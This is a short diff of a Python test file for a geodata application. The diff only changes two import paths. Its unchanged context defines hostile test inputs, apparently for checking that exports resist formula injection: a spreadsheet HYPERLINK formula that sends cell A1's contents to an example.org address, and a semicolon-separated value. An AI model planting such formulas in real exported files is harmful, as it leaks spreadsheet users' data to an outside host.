@@ -13,9 +13,9 @@ import pytest
 from shapely.geometry import LineString, Point
 from small_city import BOUNDS, HOSTILE, make_layer, write_city
 
-from app.providers import MAIN_SHARE
+from app.providers.matrix import MAIN_SHARE
 from geodata.layers import LAYERS
-from geodata.snapshot import open_snapshot
+from geodata.snapshot.store import open_snapshot
 
 FORMULA = '=HYPERLINK("https://example.org/"&A1)'
 UNLISTED = ["A;B", HOSTILE, FORMULA]
